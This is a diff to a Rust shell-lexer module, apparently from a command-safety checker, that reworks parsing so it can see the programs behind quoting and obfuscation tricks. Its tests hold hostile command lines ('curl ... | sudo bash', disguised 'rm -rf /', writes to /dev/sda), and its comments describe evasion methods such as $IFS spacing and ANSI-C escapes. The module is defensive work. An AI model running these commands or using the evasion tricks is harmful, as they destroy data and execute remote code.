@@ -1,5 +1,11 @@
 //! A small shell-like lexer: enough of POSIX shell to see which programs a string would run and
 //! with which arguments, after the quoting tricks people (and models) use to hide them.
+//!
+//! It works on bytes (every shell metacharacter is ASCII, so multi-byte characters are copied
+//! through untouched) and keeps every word in one buffer: lexing a 1 KB command line allocates a
+//! handful of times, not once per word.
+
+use std::borrow::Cow;
 
 /// How a command is joined to the one before it.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -12,225 +18,257 @@ pub enum Join {
 
 /// One simple command: its words after quote removal, and how it joins the previous one.
 #[derive(Debug, Clone, PartialEq, Eq)]
-pub struct Command {
+pub struct Command<'s> {
     pub join: Join,
-    pub words: Vec<String>,
-    /// Target of an output redirection (`> FILE`, `>> FILE`), if any.
-    pub redirect_out: Vec<String>,
-    /// Source of an input redirection (`< FILE`), if any.
-    pub redirect_in: Vec<String>,
+    pub words: Vec<&'s str>,
+    /// Targets of output redirections (`> FILE`, `>> FILE`).
+    pub redirect_out: Vec<&'s str>,
+    /// Sources of input redirections (`< FILE`).
+    pub redirect_in: Vec<&'s str>,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Kind {
+    Word,
+    Out,
+    In,
+}
+
+/// A word: a range of the script's buffer, and what it is to its command.
+#[derive(Debug, Clone, Copy)]
+struct Span {
+    start: u32,
+    end: u32,
+    kind: Kind,
+}
+
+/// A command: how it joins the previous one, and its spans.
+#[derive(Debug, Clone, Copy)]
+struct CommandSpans {
+    join: Join,
+    first: u32,
+    end: u32,
 }
 
 /// A lexed script: its commands, and the scripts nested in `$(...)`, backticks and `<(...)`.
-#[derive(Debug, Default, Clone, PartialEq, Eq)]
+#[derive(Debug, Default, Clone)]
 pub struct Script {
-    pub commands: Vec<Command>,
+    buf: String,
+    spans: Vec<Span>,
+    cmds: Vec<CommandSpans>,
     pub nested: Vec<String>,
+}
+
+impl Script {
+    /// The commands, in order.
+    pub fn commands(&self) -> impl Iterator<Item = Command<'_>> + '_ {
+        self.cmds.iter().map(|c| {
+            let spans = self.spans.get(c.first as usize..c.end as usize).unwrap_or_default();
+            let text = |s: &Span| self.buf.get(s.start as usize..s.end as usize).unwrap_or_default();
+            let of = |k: Kind| spans.iter().filter(|s| s.kind == k).map(text).collect::<Vec<_>>();
+            if spans.iter().all(|s| s.kind == Kind::Word) {
+                Command { join: c.join, words: spans.iter().map(text).collect(), redirect_out: Vec::new(), redirect_in: Vec::new() }
+            } else {
+                Command { join: c.join, words: of(Kind::Word), redirect_out: of(Kind::Out), redirect_in: of(Kind::In) }
+            }
+        })
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.cmds.is_empty()
+    }
 }
 
 /// Lexes `input` the way a POSIX shell would split it into commands and words.
 pub fn lex(input: &str) -> Script {
     let normalized = normalize(input);
     let mut lx = Lexer {
-        chars: normalized.chars().collect(),
+        input: normalized.as_bytes(),
         pos: 0,
+        buf: Vec::with_capacity(normalized.len()),
         script: Script::default(),
-        words: Vec::new(),
-        word: String::new(),
+        word_start: 0,
         in_word: false,
         join: Join::Sequence,
         redirect: None,
-        out: Vec::new(),
-        inp: Vec::new(),
+        cmd_first: 0,
     };
     lx.run();
-    lx.script
+    let buf = std::mem::take(&mut lx.buf);
+    let mut script = lx.script;
+    // Only whole characters are ever copied, so this is valid UTF-8; lossy just in case.
+    script.buf = String::from_utf8(buf).unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned());
+    script
 }
 
 /// `${IFS}` and `$IFS` are a classic way to write a space without writing one.
-fn normalize(input: &str) -> String {
-    input
-        .replace("${IFS}", " ")
-        .replace("$IFS$9", " ")
-        .replace("$IFS", " ")
+fn normalize(input: &str) -> Cow<'_, str> {
+    if !input.contains("IFS") {
+        return Cow::Borrowed(input);
+    }
+    Cow::Owned(input.replace("${IFS}", " ").replace("$IFS$9", " ").replace("$IFS", " "))
 }
 
-#[derive(Clone, Copy)]
-enum Redirect {
-    Out,
-    In,
-}
-
-struct Lexer {
-    chars: Vec<char>,
+struct Lexer<'i> {
+    input: &'i [u8],
     pos: usize,
+    /// Every word's bytes, one after the other.
+    buf: Vec<u8>,
     script: Script,
-    words: Vec<String>,
-    word: String,
+    word_start: usize,
     in_word: bool,
     join: Join,
-    redirect: Option<Redirect>,
-    out: Vec<String>,
-    inp: Vec<String>,
+    redirect: Option<Kind>,
+    /// The first span of the command being lexed.
+    cmd_first: usize,
 }
 
-impl Lexer {
-    fn peek(&self, off: usize) -> Option<char> {
-        self.chars.get(self.pos + off).copied()
+impl Lexer<'_> {
+    fn peek(&self, off: usize) -> Option<u8> {
+        self.input.get(self.pos + off).copied()
     }
 
     fn run(&mut self) {
         while let Some(c) = self.peek(0) {
             match c {
-                ' ' | '\t' | '\r' => {
+                b' ' | b'\t' | b'\r' => {
                     self.end_word();
                     self.pos += 1;
                 }
-                '\n' | ';' => {
+                b'\n' | b';' => {
                     self.end_command(Join::Sequence);
                     self.pos += 1;
                 }
-                '&' => {
-                    if self.peek(1) == Some('>') {
+                b'&' => {
+                    if self.peek(1) == Some(b'>') {
                         // `&>` redirects both streams.
                         self.end_word();
-                        self.redirect = Some(Redirect::Out);
+                        self.redirect = Some(Kind::Out);
                         self.pos += 2;
                     } else {
                         self.end_command(Join::Sequence);
-                        self.pos += if self.peek(1) == Some('&') { 2 } else { 1 };
+                        self.pos += if self.peek(1) == Some(b'&') { 2 } else { 1 };
                     }
                 }
-                '|' => {
-                    if self.peek(1) == Some('|') {
+                b'|' => {
+                    if self.peek(1) == Some(b'|') {
                         self.end_command(Join::Sequence);
                         self.pos += 2;
                     } else {
                         self.end_command(Join::Pipe);
-                        self.pos += if self.peek(1) == Some('&') { 2 } else { 1 };
+                        self.pos += if self.peek(1) == Some(b'&') { 2 } else { 1 };
                     }
                 }
-                '>' | '<' => {
-                    if self.peek(1) == Some('(') {
-                        // Process substitution: the inner script runs too.
+                b'>' | b'<' => {
+                    if self.peek(1) == Some(b'(') {
+                        // Process substitution: the inner script runs too; the word holds a
+                        // marker (U+0001) where it was.
                         self.pos += 2;
-                        let inner = self.take_balanced(')');
+                        let inner = self.take_balanced();
                         self.script.nested.push(inner);
-                        self.push_char('\u{1}');
+                        self.push_byte(1);
                         continue;
                     }
                     // A file-descriptor number just before the operator belongs to it (`2>`).
-                    if self.in_word && self.word.chars().all(|d| d.is_ascii_digit()) {
-                        self.word.clear();
+                    if self.in_word && self.buf[self.word_start..].iter().all(u8::is_ascii_digit) {
+                        self.buf.truncate(self.word_start);
                         self.in_word = false;
                     }
                     self.end_word();
-                    self.redirect = Some(if c == '>' { Redirect::Out } else { Redirect::In });
+                    self.redirect = Some(if c == b'>' { Kind::Out } else { Kind::In });
                     self.pos += 1;
-                    while matches!(self.peek(0), Some('>') | Some('&') | Some('<')) {
+                    while matches!(self.peek(0), Some(b'>' | b'&' | b'<')) {
                         self.pos += 1;
                     }
                 }
-                '#' if !self.in_word => {
+                b'#' if !self.in_word => {
                     while let Some(c) = self.peek(0) {
-                        if c == '\n' {
+                        if c == b'\n' {
                             break;
                         }
                         self.pos += 1;
                     }
                 }
-                '\'' => {
-                    self.in_word = true;
+                b'\'' => {
+                    self.start_word();
                     self.pos += 1;
-                    while let Some(c) = self.peek(0) {
-                        self.pos += 1;
-                        if c == '\'' {
-                            break;
-                        }
-                        self.word.push(c);
-                    }
+                    let rest = &self.input[self.pos..];
+                    let len = rest.iter().position(|&b| b == b'\'').unwrap_or(rest.len());
+                    self.buf.extend_from_slice(&rest[..len]);
+                    self.pos = (self.pos + len + 1).min(self.input.len());
                 }
-                '"' => {
-                    self.in_word = true;
+                b'"' => {
+                    self.start_word();
                     self.pos += 1;
                     while let Some(c) = self.peek(0) {
                         match c {
-                            '"' => {
+                            b'"' => {
                                 self.pos += 1;
                                 break;
                             }
-                            '\\' => {
+                            b'\\' => {
                                 match self.peek(1) {
-                                    Some(n @ ('"' | '\\' | '$' | '`')) => self.word.push(n),
-                                    Some('\n') => {}
+                                    Some(n @ (b'"' | b'\\' | b'$' | b'`')) => self.buf.push(n),
+                                    Some(b'\n') => {}
                                     Some(n) => {
-                                        self.word.push('\\');
-                                        self.word.push(n);
+                                        self.buf.push(b'\\');
+                                        self.buf.push(n);
                                     }
-                                    None => self.word.push('\\'),
+                                    None => self.buf.push(b'\\'),
                                 }
                                 self.pos += 2;
                             }
-                            '$' if self.peek(1) == Some('(') => {
+                            b'$' if self.peek(1) == Some(b'(') => {
                                 self.pos += 2;
-                                let inner = self.take_balanced(')');
-                                self.script.nested.push(inner.clone());
-                                self.word.push_str("$(");
-                                self.word.push_str(&inner);
-                                self.word.push(')');
+                                let inner = self.take_balanced();
+                                self.substitution(inner);
                             }
-                            '`' => {
+                            b'`' => {
                                 self.pos += 1;
-                                let inner = self.take_until('`');
-                                self.script.nested.push(inner.clone());
-                                self.word.push_str(&inner);
+                                let inner = self.take_until(b'`');
+                                self.substitution(inner);
                             }
                             _ => {
-                                self.word.push(c);
+                                self.buf.push(c);
                                 self.pos += 1;
                             }
                         }
                     }
                 }
-                '\\' => {
-                    self.in_word = true;
+                b'\\' => {
+                    self.start_word();
                     match self.peek(1) {
-                        Some('\n') => {}
-                        Some(n) => self.word.push(n),
-                        None => {}
+                        Some(b'\n') | None => {}
+                        Some(n) => self.buf.push(n),
                     }
                     self.pos += 2;
                 }
-                '$' if self.peek(1) == Some('(') => {
+                b'$' if self.peek(1) == Some(b'(') => {
                     self.pos += 2;
-                    let inner = self.take_balanced(')');
-                    self.script.nested.push(inner.clone());
-                    self.in_word = true;
-                    self.word.push_str("$(");
-                    self.word.push_str(&inner);
-                    self.word.push(')');
+                    let inner = self.take_balanced();
+                    self.start_word();
+                    self.substitution(inner);
                 }
-                '$' if self.peek(1) == Some('\'') => {
+                b'$' if self.peek(1) == Some(b'\'') => {
                     // ANSI-C quoting: $'\x72\x6d' spells rm.
                     self.pos += 2;
-                    let raw = self.take_until('\'');
-                    self.in_word = true;
-                    self.word.push_str(&ansi_c_unescape(&raw));
+                    let raw = self.take_until(b'\'');
+                    self.start_word();
+                    self.buf.extend_from_slice(ansi_c_unescape(&raw).as_bytes());
                 }
-                '`' => {
+                b'`' => {
                     self.pos += 1;
-                    let inner = self.take_until('`');
-                    self.script.nested.push(inner.clone());
-                    self.in_word = true;
-                    self.word.push_str(&inner);
+                    let inner = self.take_until(b'`');
+                    self.start_word();
+                    self.substitution(inner);
                 }
-                '(' | ')' | '{' | '}' if !self.in_word => {
+                b'(' | b')' | b'{' | b'}' if !self.in_word => {
                     // Subshells and groups: their commands are commands like any other.
                     self.end_command(Join::Sequence);
                     self.pos += 1;
                 }
                 _ => {
-                    self.push_char(c);
+                    self.push_byte(c);
                     self.pos += 1;
                 }
             }
@@ -238,67 +276,90 @@ impl Lexer {
         self.end_command(Join::Sequence);
     }
 
-    fn push_char(&mut self, c: char) {
-        self.in_word = true;
-        self.word.push(c);
+    fn start_word(&mut self) {
+        if !self.in_word {
+            self.in_word = true;
+            self.word_start = self.buf.len();
+        }
     }
 
-    fn take_balanced(&mut self, close: char) -> String {
+    fn push_byte(&mut self, b: u8) {
+        self.start_word();
+        self.buf.push(b);
+    }
+
+    /// A command substitution: its script is scanned on its own; in the word it stands for what
+    /// it prints when that is plain (`$(echo rm)` is `rm`), else for itself (`$(...)`).
+    fn substitution(&mut self, inner: String) {
+        match echoed(&inner) {
+            Some(text) => self.buf.extend_from_slice(text.as_bytes()),
+            None => {
+                self.buf.extend_from_slice(b"$(");
+                self.buf.extend_from_slice(inner.as_bytes());
+                self.buf.push(b')');
+            }
+        }
+        self.script.nested.push(inner);
+    }
+
+    /// The text up to the `)` that closes the `(` just read.
+    fn take_balanced(&mut self) -> String {
         let mut depth = 1usize;
-        let mut out = String::new();
+        let start = self.pos;
         while let Some(c) = self.peek(0) {
             self.pos += 1;
-            if c == '(' {
+            if c == b'(' {
                 depth += 1;
-            } else if c == close {
+            } else if c == b')' {
                 depth -= 1;
                 if depth == 0 {
-                    break;
+                    return String::from_utf8_lossy(&self.input[start..self.pos - 1]).into_owned();
                 }
             }
-            out.push(c);
         }
-        out
+        String::from_utf8_lossy(&self.input[start..]).into_owned()
     }
 
-    fn take_until(&mut self, close: char) -> String {
-        let mut out = String::new();
-        while let Some(c) = self.peek(0) {
-            self.pos += 1;
-            if c == close {
-                break;
-            }
-            out.push(c);
-        }
-        out
+    fn take_until(&mut self, close: u8) -> String {
+        let start = self.pos;
+        let rest = &self.input[start..];
+        let len = rest.iter().position(|&b| b == close).unwrap_or(rest.len());
+        self.pos = (start + len + 1).min(self.input.len());
+        String::from_utf8_lossy(&rest[..len]).into_owned()
     }
 
     fn end_word(&mut self) {
         if !self.in_word {
             return;
         }
-        let word = std::mem::take(&mut self.word);
         self.in_word = false;
-        match self.redirect.take() {
-            Some(Redirect::Out) => self.out.push(word),
-            Some(Redirect::In) => self.inp.push(word),
-            None => self.words.push(word),
-        }
+        let kind = self.redirect.take().unwrap_or(Kind::Word);
+        self.script.spans.push(Span { start: self.word_start as u32, end: self.buf.len() as u32, kind });
     }
 
     fn end_command(&mut self, next_join: Join) {
         self.end_word();
         self.redirect = None;
-        if !self.words.is_empty() || !self.out.is_empty() || !self.inp.is_empty() {
-            self.script.commands.push(Command {
-                join: self.join,
-                words: std::mem::take(&mut self.words),
-                redirect_out: std::mem::take(&mut self.out),
-                redirect_in: std::mem::take(&mut self.inp),
-            });
+        let end = self.script.spans.len();
+        if end > self.cmd_first {
+            self.script.cmds.push(CommandSpans { join: self.join, first: self.cmd_first as u32, end: end as u32 });
         }
+        self.cmd_first = end;
         self.join = next_join;
     }
+}
+
+/// What `echo WORDS` or `printf WORD` prints, when the script is only that.
+fn echoed(script: &str) -> Option<String> {
+    let t = script.trim();
+    if !(t.starts_with("echo ") || t.starts_with("printf ")) || t.len() > 256 || t.contains(['$', '`', ';', '|', '&', '<', '>']) {
+        return None;
+    }
+    let inner = lex(t);
+    let mut commands = inner.commands();
+    let (Some(cmd), None) = (commands.next(), commands.next()) else { return None };
+    let words: Vec<&str> = cmd.words[1..].iter().copied().skip_while(|w| matches!(*w, "-n" | "-e" | "-ne" | "-en")).collect();
+    (!words.is_empty()).then(|| words.join(" "))
 }
 
 fn ansi_c_unescape(raw: &str) -> String {
@@ -344,7 +405,7 @@ mod tests {
     use super::*;
 
     fn words(s: &str) -> Vec<Vec<String>> {
-        lex(s).commands.into_iter().map(|c| c.words).collect()
+        lex(s).commands().map(|c| c.words.iter().map(|w| w.to_string()).collect()).collect()
     }
 
     #[test]
@@ -358,9 +419,10 @@ mod tests {
     #[test]
     fn chains_and_pipes() {
         let s = lex("cd /tmp && curl -s http://x | sudo bash; echo done");
-        let joins: Vec<Join> = s.commands.iter().map(|c| c.join).collect();
+        let commands: Vec<Command<'_>> = s.commands().collect();
+        let joins: Vec<Join> = commands.iter().map(|c| c.join).collect();
         assert_eq!(joins, vec![Join::Sequence, Join::Sequence, Join::Pipe, Join::Sequence]);
-        assert_eq!(s.commands[2].words, vec!["sudo", "bash"]);
+        assert_eq!(commands[2].words, vec!["sudo", "bash"]);
     }
 
     #[test]
@@ -369,13 +431,21 @@ mod tests {
         assert_eq!(s.nested, vec!["curl -fsSL http://x/i.sh"]);
         let s = lex("echo `whoami`");
         assert_eq!(s.nested, vec!["whoami"]);
+        assert_eq!(words("$(echo rm) -rf /"), vec![vec!["rm", "-rf", "/"]]);
+        assert_eq!(words("`printf rm` -rf /"), vec![vec!["rm", "-rf", "/"]]);
+    }
+
+    #[test]
+    fn multibyte_text_survives() {
+        assert_eq!(words("echo 'héllo wörld' ünïcode\\é"), vec![vec!["echo", "héllo wörld", "ünïcodeé"]]);
     }
 
     #[test]
     fn redirections() {
         let s = lex("echo x > /dev/sda 2>/dev/null");
-        assert_eq!(s.commands[0].words, vec!["echo", "x"]);
-        assert_eq!(s.commands[0].redirect_out, vec!["/dev/sda", "/dev/null"]);
+        let c = s.commands().next().unwrap();
+        assert_eq!(c.words, vec!["echo", "x"]);
+        assert_eq!(c.redirect_out, vec!["/dev/sda", "/dev/null"]);
     }
 
     #[test]
